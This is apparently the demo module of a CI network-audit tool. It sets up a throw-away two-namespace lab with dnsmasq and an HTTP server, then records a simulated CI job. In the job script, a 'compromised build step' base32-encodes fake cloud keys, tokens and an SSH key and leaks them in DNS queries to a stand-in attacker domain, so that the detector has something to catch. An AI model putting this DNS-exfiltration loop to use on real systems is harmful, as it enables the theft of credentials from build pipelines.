"""`cicd-audit demo`: record a small CI job in a throw-away network-namespace lab.

The lab is two network namespaces joined by a veth pair:

    runner-<pid>  (10.213.0.2, fd00:213::2)  <-- veth -->  internet-<pid>  (10.213.0.1, fd00:213::1)

"internet" runs dnsmasq (answering pypi.org, files.pythonhosted.org,
github.com and one exfiltration domain) and a local HTTP server. The "CI job"
runs in "runner" under `cicd-audit record`: it resolves and fetches a few
hosts with curl, then leaks a fake secret through ~30 base32-encoded DNS
queries. Afterwards the demo prints the first rows of conn.log and dns.log and
the report of `cicd-audit analyze`.

Nothing leaves the lab: only addresses inside the namespaces created here are
used, and the namespaces (with their veth pair and every process started in
them) are removed on the way out, also after an error or Ctrl-C.

`NetnsLab` is also used by bench/record_bench.py.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LAB_V4 = "10.213.0"        # internet = .1, runner = .2
LAB_V6 = "fd00:213:"       # ULA: internet = ::1, runner = ::2

HOSTS = {
    "pypi.org": f"{LAB_V4}.1",
    "files.pythonhosted.org": f"{LAB_V4}.1",
    "github.com": f"{LAB_V4}.1",
    "codeload.github.com": f"{LAB_V4}.1",
}
EXFIL_DOMAIN = "cdn-telemetry-sync.net"   # not on any allowlist: the demo's "attacker"
EXFIL_QUERIES = 30


def _cicd_audit_cmd() -> list[str]:
    exe = Path(sys.executable).with_name("cicd-audit")
    if exe.exists():
        return [str(exe)]
    found = shutil.which("cicd-audit")
    return [found] if found else [sys.executable, "-m", "cicd_audit.cli"]


def in_netns(ns: str, argv: list[str]) -> list[str]:
    """argv, run in the named network namespace.

    Unlike `ip netns exec`, which mounts a fresh /sys, this keeps the host's
    /sys visible: the cgroup v2 tree (socket hooks) and the bpffs
    (--fail-closed pins). Like it, /etc/netns/NS/resolv.conf, if present,
    replaces /etc/resolv.conf, in a private mount namespace.
    """
    resolv = f"/etc/netns/{ns}/resolv.conf"
    script = f'if [ -f {resolv} ]; then mount --bind {resolv} /etc/resolv.conf || exit 125; fi; exec "$@"'
    return ["nsenter", f"--net=/run/netns/{ns}", "unshare", "--mount", "--propagation", "private",
            "sh", "-c", script, "sh", *argv]


class NetnsLab:
    """Two network namespaces joined by veth; removed (with their processes) by close()."""

    def __init__(self, tag: str = "demo", v4_prefix: str = LAB_V4, v6_prefix: str = LAB_V6):
        suffix = f"{os.getpid()}"
        self.runner = f"ca-{tag}-runner-{suffix}"
        self.internet = f"ca-{tag}-inet-{suffix}"
        self.runner_if = f"car{suffix}"[:15]          # interface names: at most 15 characters
        self.internet_if = f"cai{suffix}"[:15]
        self.runner_ip, self.internet_ip = f"{v4_prefix}.2", f"{v4_prefix}.1"
        self.runner_ip6, self.internet_ip6 = f"{v6_prefix}:2", f"{v6_prefix}:1"
        self._procs: list[subprocess.Popen] = []
        self._etc_dirs: list[Path] = []
        self._created: list[str] = []
        self.cgroup: Path | None = None     # made by create(): the job's own cgroup v2 directory

    # -- set-up / tear-down -------------------------------------------------
    def __enter__(self) -> NetnsLab:
        try:
            self.create()
        except BaseException:
            self.close()
            raise
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def create(self) -> None:
        for ns in (self.runner, self.internet):
            _run(["ip", "netns", "add", ns])
            self._created.append(ns)
        _run(["ip", "link", "add", self.runner_if, "netns", self.runner, "type", "veth",
              "peer", "name", self.internet_if, "netns", self.internet])
        for ns, ifname, ip4, ip6 in ((self.runner, self.runner_if, self.runner_ip, self.runner_ip6),
                                     (self.internet, self.internet_if, self.internet_ip, self.internet_ip6)):
            self.sh(ns, f"sysctl -qw net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0;"
                        f"ip link set lo up; ip addr add {ip4}/24 dev {ifname};"
                        f"ip -6 addr add {ip6}/64 dev {ifname} nodad; ip link set {ifname} up")
        from cicd_audit.recorder.cgroup_attach import cgroup2_mount
        root = cgroup2_mount()
        if root is not None:
            self.cgroup = root / f"cicd-audit-{self.runner}"
            self.cgroup.mkdir(exist_ok=True)

    def in_cgroup(self, argv: list[str]) -> list[str]:
        """argv, run in the lab's cgroup (where the recorder's socket hooks look), if it has one."""
        if self.cgroup is None:
            return list(argv)
        return ["sh", "-c", f'echo $$ > {self.cgroup}/cgroup.procs && exec "$@"', "sh", *argv]

    def record_args(self) -> list[str]:
        """`cicd-audit record` options that keep its socket hooks on the lab's cgroup."""
        return ["--cgroup", str(self.cgroup)] if self.cgroup is not None else []

    def add_address(self, ns: str, address: str) -> None:
        """One more IPv4 address (with prefix length) on the namespace's end of the veth."""
        ifname = self.runner_if if ns == self.runner else self.internet_if
        self.run(ns, ["ip", "addr", "add", address, "dev", ifname])

    def close(self) -> None:
        for proc in reversed(self._procs):
            if proc.poll() is None:
                try:
                    proc.send_signal(signal.SIGTERM)
                    proc.wait(timeout=5)
                except subprocess.TimeoutExpired:
                    proc.kill()
                    proc.wait()
                except ProcessLookupError:
                    pass
        self._procs.clear()
        for ns in reversed(self._created):
            # Anything still running in the namespace (e.g. a daemon that forked) goes first.
            pids = subprocess.run(["ip", "netns", "pids", ns], capture_output=True, text=True).stdout.split()
            for pid in pids:
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except (ProcessLookupError, ValueError):
                    pass
            subprocess.run(["ip", "netns", "del", ns], capture_output=True)
        if self.cgroup is not None and self.cgroup.exists():
            for pid in (self.cgroup / "cgroup.procs").read_text().split():
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except (ProcessLookupError, ValueError):
                    pass
            for _ in range(50):
                try:
                    self.cgroup.rmdir()
                    break
                except OSError:
                    time.sleep(0.1)
        self._created.clear()
        for d in self._etc_dirs:
            shutil.rmtree(d, ignore_errors=True)
        self._etc_dirs.clear()

    # -- running things -----------------------------------------------------
    def cmd(self, ns: str, argv: list[str]) -> list[str]:
        return in_netns(ns, argv)

    def sh(self, ns: str, script: str, **kw) -> subprocess.CompletedProcess:
        return _run(self.cmd(ns, ["sh", "-c", script]), **kw)

    def run(self, ns: str, argv: list[str], **kw) -> subprocess.CompletedProcess:
        return _run(self.cmd(ns, argv), **kw)

    def start(self, ns: str, argv: list[str], **kw) -> subprocess.Popen:
        """A long-running process in `ns`, stopped by close()."""
        kw.setdefault("stdin", subprocess.DEVNULL)
        proc = subprocess.Popen(self.cmd(ns, argv), **kw)
        self._procs.append(proc)
        return proc

    def set_resolver(self, ns: str, server: str, options: str = "timeout:1 attempts:1") -> None:
        """/etc/netns/NS/resolv.conf: `ip netns exec` bind-mounts it over /etc/resolv.conf."""
        d = Path("/etc/netns") / ns
        d.mkdir(parents=True, exist_ok=True)
        self._etc_dirs.append(d)
        (d / "resolv.conf").write_text(f"nameserver {server}\noptions {options}\n")

    def start_dnsmasq(self, ns: str, listen: str, addresses: dict[str, str], extra: list[str] = ()) -> subprocess.Popen:
        argv = ["dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts", "--no-poll",
                "--conf-file=/dev/null", "--pid-file=", "--bind-interfaces", f"--listen-address={listen}",
                "--except-interface=lo", "--user=root", "--group=root", "--cache-size=0",
                "--dns-forward-max=5000", *[f"--address=/{name}/{ip}" for name, ip in addresses.items()], *extra]
        proc = self.start(ns, argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        wait_for_udp_dns(self, ns, listen, proc)
        return proc


def wait_for_udp_dns(lab: NetnsLab, ns: str, server: str, proc: subprocess.Popen, timeout: float = 5) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"dnsmasq exited: {proc.stderr.read().decode(errors='replace')}")
        # Probe from the server's own namespace so no probe packet reaches a recorded interface.
        r = subprocess.run(lab.cmd(ns, ["dig", "+short", "+time=1", "+tries=1", f"@{server}", "probe.invalid"]),
                           capture_output=True, text=True)
        if r.returncode == 0:
            return
        time.sleep(0.05)
    raise RuntimeError("dnsmasq did not start")


def wait_for_tcp(lab: NetnsLab, ns: str, host: str, port: int, timeout: float = 5) -> None:
    probe = (f"import socket,time,sys\nd=time.time()+{timeout}\n"
             f"while time.time()<d:\n"
             f"  try: socket.create_connection(({host!r},{port}),0.2).close(); sys.exit(0)\n"
             f"  except OSError: time.sleep(0.05)\nsys.exit(1)")
    if lab.run(ns, [sys.executable, "-c", probe], check=False).returncode:
        raise RuntimeError(f"nothing listens on {host}:{port} in {ns}")


def _run(argv: list[str], check: bool = True, **kw) -> subprocess.CompletedProcess:
    kw.setdefault("capture_output", True)
    kw.setdefault("text", True)
    r = subprocess.run(argv, **kw)
    if check and r.returncode:
        raise RuntimeError(f"{' '.join(argv)} failed ({r.returncode}): {(r.stderr or '').strip()}")
    return r


# -- the demo ----------------------------------------------------------------

JOB = r"""
set -u
echo "[job] pip install -r requirements.txt (simulated)"
curl -sS -o /dev/null -w '[job]   GET %{url_effective} -> %{http_code}\n' http://pypi.org/simple/requests/
curl -sS -o /dev/null -w '[job]   GET %{url_effective} -> %{http_code}\n' http://files.pythonhosted.org/packages/requests-2.32.3-py3-none-any.whl
echo "[job] git clone (simulated)"
curl -sS -o /dev/null -w '[job]   GET %{url_effective} -> %{http_code}\n' 'http://github.com/example/app.git/info/refs?service=git-upload-pack'
echo "[job] install.sh fetched from a bare IP address"
curl -sS -o /dev/null -w '[job]   GET %{url_effective} -> %{http_code}\n' http://10.213.0.99/simple/
echo "[job] a compromised build step leaks a secret over DNS"
secret='AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY GITHUB_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a NPM_TOKEN=npm_0123456789abcdefghijABCDEFGHIJ0123 DEPLOY_KEY=-----BEGIN OPENSSH PRIVATE KEY-----b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQAAACBexampleexampleexampleexampleAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQAAACBexample-----END OPENSSH PRIVATE KEY----- DATABASE_URL=postgres://ci:Sup3rS3cret-CI-pa55w0rd@db.internal:5432/app SLACK_WEBHOOK=https://hooks.slack.example/services/T000/B000/XXXXXXXXXXXXXXXX'
enc=$(printf '%s' "$secret" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
i=0
while [ -n "$enc" ] && [ $i -lt EXFIL_QUERIES ]; do
  chunk=${enc%"${enc#????????????????????????????????}"}    # 32 characters
  [ -z "$chunk" ] && chunk=$enc
  enc=${enc#"$chunk"}
  dig +short +time=1 +tries=1 "$i.$chunk.EXFIL_DOMAIN" A > /dev/null
  i=$((i + 1))
done
echo "[job]   sent $i queries to *.EXFIL_DOMAIN"
""".replace("EXFIL_DOMAIN", EXFIL_DOMAIN).replace("EXFIL_QUERIES", str(EXFIL_QUERIES))


def _head(path: Path, rows: int) -> str:
    if not path.exists():
        return f"({path.name} is missing)\n"
    lines = path.read_text().splitlines()
    header = [line for line in lines if line.startswith("#fields")]
    data = [line for line in lines if not line.startswith("#")]
    shown = header + data[:rows]
    more = f"... ({len(data) - rows} more rows)" if len(data) > rows else ""
    return "\n".join(shown + ([more] if more else [])) + "\n"


def run_demo(out_dir: str | os.PathLike | None = None, rows: int = 12, echo=print) -> int:
    """Build the lab, record the CI job into out_dir, tear the lab down, print logs and the analysis.

    out_dir: where conn.log/dns.log/... go (created; default: a new temporary directory,
    kept afterwards so the logs can be inspected). rows: data rows shown per log.
    Returns the exit status of `cicd-audit analyze` (0 = nothing at/above its threshold).
    Needs root (network namespaces, BPF).
    """
    if os.geteuid() != 0:
        echo("cicd-audit demo: needs root (network namespaces and BPF)")
        return 2
    for tool in ("ip", "dnsmasq", "curl", "dig"):
        if shutil.which(tool) is None:
            echo(f"cicd-audit demo: needs {tool!r} on PATH")
            return 2
    out = Path(out_dir) if out_dir is not None else Path(tempfile.mkdtemp(prefix="cicd-audit-demo-"))
    out.mkdir(parents=True, exist_ok=True)
    www = Path(tempfile.mkdtemp(prefix="cicd-audit-demo-www-"))
    cli = _cicd_audit_cmd()
    started = time.monotonic()
    try:
        for rel in ("simple/requests/index.html", "simple/index.html",
                    "packages/requests-2.32.3-py3-none-any.whl", "example/app.git/info/refs"):
            (www / rel).parent.mkdir(parents=True, exist_ok=True)
            (www / rel).write_text(f"lab content for /{rel}\n" * 64)
        with NetnsLab("demo") as lab:
            echo(f"[lab] namespaces {lab.runner} ({lab.runner_ip}, {lab.runner_ip6}) <-veth-> "
                 f"{lab.internet} ({lab.internet_ip}, {lab.internet_ip6})")
            lab.start_dnsmasq(lab.internet, lab.internet_ip,
                              {**HOSTS, EXFIL_DOMAIN: f"{LAB_V4}.66"},
                              extra=[f"--address=/{name}/{lab.internet_ip6}" for name in HOSTS])
            lab.sh(lab.internet, f"ip addr add {LAB_V4}.99/24 dev {lab.internet_if}")
            lab.start(lab.internet, [sys.executable, "-m", "http.server", "80", "--bind", "::",
                                     "--directory", str(www)],
                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            wait_for_tcp(lab, lab.internet, lab.internet_ip, 80)
            lab.set_resolver(lab.runner, lab.internet_ip)
            echo(f"[lab] dnsmasq + HTTP server up in {lab.internet}; running the CI job under "
                 f"`cicd-audit record --out {out}`")
            rec = lab.run(lab.runner, lab.in_cgroup([*cli, "record", "--out", str(out), "--iface", lab.runner_if,
                                                     *lab.record_args(), "--", "bash", "-c", JOB]),
                          check=False, capture_output=False, stdout=sys.stdout, stderr=sys.stderr,
                          timeout=120)
            if rec.returncode:
                echo(f"[lab] the recorded job exited with status {rec.returncode}")
        echo(f"[lab] torn down ({time.monotonic() - started:.1f} s)\n")
    finally:
        shutil.rmtree(www, ignore_errors=True)

    sys.stdout.flush()
    for name in ("conn.log", "dns.log"):
        echo(f"==> {out / name} (first {rows} rows)")
        echo(_head(out / name, rows))
    echo(f"==> cicd-audit analyze {out}")
    sys.stdout.flush()
    return subprocess.run([*cli, "analyze", str(out)]).returncode


if __name__ == "__main__":
    sys.exit(run_demo(sys.argv[1] if len(sys.argv) > 1 else None))
